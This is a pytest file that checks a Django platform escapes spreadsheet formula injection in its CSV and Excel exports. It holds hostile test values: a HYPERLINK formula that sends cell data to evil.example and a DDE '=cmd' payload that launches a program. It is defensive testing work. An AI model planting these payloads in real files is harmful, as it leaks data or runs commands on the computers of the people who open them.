"""Formula injection (P&R para 32): every spreadsheet and CSV file the platform writes keeps text
that a spreadsheet would run as a formula as text, through one function, `web.spreadsheets.cell`.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.test import Client, RequestFactory
from django.urls import reverse
from django.utils.translation import gettext_lazy

import revmech
from revmech.accounts.models import ExpertProfile, Person
from revmech.audit import services as audit
from revmech.web import spreadsheets

SOURCE = Path(revmech.__file__).parent
HOSTILE = '=HYPERLINK("https://evil.example/?d="&B2,"Click")'


@pytest.mark.parametrize(
    "value",
    [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"],
)
def test_text_that_would_run_as_a_formula_is_kept_as_text(value: str) -> None:
    assert spreadsheets.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Kenya", "", "Prosecutor since 2008", "a=b", "Ä-1"])
def test_ordinary_text_is_unchanged(value: str) -> None:
    assert spreadsheets.cell(value) == value


def test_numbers_dates_and_lazy_text_are_cells_too() -> None:
    assert spreadsheets.cell(-5) == -5
    assert spreadsheets.cell(Decimal("-1.50")) == Decimal("-1.50")
    assert spreadsheets.cell(dt.date(2026, 1, 1)) == dt.date(2026, 1, 1)
    assert spreadsheets.cell(None) is None
    assert spreadsheets.cell(gettext_lazy("Name")) == "Name"
    assert spreadsheets.row(["=1", 2]) == ["'=1", 2]


# The class: every call that writes a row or a cell of a CSV file or a workbook goes through
# `spreadsheets.row` or `spreadsheets.cell`, so a new export cannot forget it.
WRITES = re.compile(r"\.(writerow|writerows|append)\(|\.cell\([^)]*value=|\.value\s*=")


def _writes_outside_the_helper() -> list[str]:
    found = []
    for path in sorted(SOURCE.rglob("*.py")):
        if "migrations" in path.parts or path.name == "spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        if not re.search(r"csv\.writer\(|Workbook\(", text):
            continue
        lines = text.splitlines()
        for number, line in enumerate(lines):
            match = WRITES.search(line)
            if match is None:
                continue
            if match.group(1) == "append" and "sheet" not in line:
                continue  # a list's append, not a worksheet's
            call = line[match.end() :] + "".join(lines[number + 1 : number + 3])
            if call.strip().startswith("[])"):
                continue  # an empty row, nothing to escape
            if not call.strip().startswith("spreadsheets.") and "spreadsheets." not in line:
                found.append(f"{path.relative_to(SOURCE)}:{number + 1}: {line.strip()}")
    return found


def test_every_spreadsheet_writer_goes_through_the_one_function() -> None:
    found = _writes_outside_the_helper()
    assert found == [], "pass each row through spreadsheets.row:\n" + "\n".join(found)


def test_the_sweep_finds_the_writers() -> None:
    """The sweep looks at real writers (so an empty result means something)."""
    writers = [
        p
        for p in SOURCE.rglob("*.py")
        if re.search(r"csv\.writer\(|Workbook\(", p.read_text(encoding="utf-8"))
    ]
    assert len(writers) >= 3
    assert WRITES.search("    sheet.append([name, role])")
    assert WRITES.search("    writer.writerow(values)")


@pytest.mark.django_db
def test_a_profile_field_comes_out_of_the_people_list_as_text(
    client: Client, personas: dict[str, Person], settings: Any
) -> None:
    """The outside test's case: a profile field set to a HYPERLINK formula was live in
    /people/lists/export.xlsx."""
    from openpyxl import load_workbook

    settings.MFA_REQUIRED_FOR_CONFIDENTIAL_ROLES = False
    expert = personas["expert_under_review"]
    expert.first_name = "=1+1"
    expert.save()
    ExpertProfile.objects.create(
        person=expert,
        professional_background=HOSTILE,
        current_position="@SUM(A1:A9)",
        offices_held="+41 22 917 1234",
        activities="-",
    )
    client.force_login(personas["secretariat"])
    response = client.get(reverse("accounts:lists_export", kwargs={"file_format": "xlsx"}))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in workbook.worksheets for r in sheet.iter_rows() for c in r]
    assert any(c.value == "'" + HOSTILE for c in cells)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [
        c.value
        for c in cells
        if isinstance(c.value, str) and c.value.startswith(spreadsheets.FORMULA_STARTS)
    ]


@pytest.mark.django_db
def test_the_audit_csv_keeps_a_hostile_user_agent_as_text(
    client: Client, personas: dict[str, Person], rf: RequestFactory
) -> None:
    request = rf.get("/", headers={"user-agent": HOSTILE})
    audit.record("matrix.check", actor=personas["secretariat"], request=request)
    client.force_login(personas["secretariat"])
    response = client.get(reverse("audit:export"))
    body = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[attr-defined]
    fields = [field for line in csv.reader(io.StringIO(body)) for field in line]
    assert "'" + HOSTILE in fields
    assert not [f for f in fields if f.startswith(spreadsheets.FORMULA_STARTS)]
